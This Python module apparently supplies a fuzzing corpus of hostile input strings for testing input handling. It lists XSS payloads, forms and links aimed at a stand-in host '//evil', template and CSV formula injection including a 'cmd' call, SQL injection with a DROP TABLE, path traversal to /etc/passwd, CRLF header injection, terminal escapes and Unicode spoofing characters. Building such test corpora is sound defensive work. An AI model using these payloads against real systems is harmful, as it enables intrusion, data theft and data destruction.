"""Texts that mean harm wherever they are taken for more than text: about two hundred, combined from short lists."""

from itertools import product

BREAKERS = ("", "'", '"', "`", ">", "'>", '">', "</td>", "</textarea>", "</title>", "-->", "]]>")
ELEMENTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<b>x</b>'>",
    "<style>*{display:none}</style>",
    "<form action=//evil><input name=x autofocus onfocus=alert(1)>",
    "<base href=//evil/>",
)
ATTRIBUTES = ("onmouseover=alert(1)", "style=position:fixed", "x-init=alert(1)", "hx-get=//evil", "srcdoc=x")
TEMPLATES = (
    "{{ 7*7 }}",
    "{% debug %}",
    "{# x #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[7*7]]",
    "{{constructor}}",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    '=HYPERLINK("//evil")',
    "%0A=1+1",
)
TERMINAL = (
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\x08\x08\x08gone",
    "\rover",
    "\x7f",
)
TURNING = (
    "\u202egpj.exe",
    "\u2066x\u2069",
    "\u200b\u200d\ufeff",
    "a\u2028b\u2029c",
    "Z" + "\u0301" * 60,
    "\U000e0041",
)
ODD = ("\x00", "a\x00b", "\ufffe", "\U0001f468\u200d\U0001f469", "\u0130i\u0131", "\uff1cscript\uff1e")
QUERIES = (
    "' OR '1'='1",
    "'; DROP TABLE gateway_requestlog;--",
    '" UNION SELECT 1--',
    "1) OR (1=1",
    "%' AND '%'='",
    "\\'; --",
)
PATHS = (
    "../../../etc/passwd",
    "..\\..\\windows",
    "/admin/",
    "file:///etc/passwd",
    "//evil/x",
    "%2e%2e%2f",
    "C:\\con",
)
HEADERS = (
    "x\r\nSet-Cookie: a=b",
    "x\nINFO fake line",
    "x\r\n\r\n<html>",
    "x%0d%0aLocation: //evil",
    "\u560d\u560aX: y",
)
ENCODED = (
    "&lt;script&gt;",
    "&#60;script&#62;",
    "%3Cscript%3E",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "&amp;lt;",
)


def corpus() -> list[str]:
    """Every text once, in the same order each time."""
    combined = [breaker + element for breaker, element in product(BREAKERS, ELEMENTS)]
    combined += [f"{quote} {attribute} x={quote}" for quote, attribute in product("'\"`", ATTRIBUTES)]
    combined += [f"{breaker}{template}" for breaker, template in product(("", '">'), TEMPLATES)]
    plain = (*FORMULAS, *TERMINAL, *TURNING, *ODD, *QUERIES, *PATHS, *HEADERS, *ENCODED)
    return list(dict.fromkeys([*combined, *plain]))
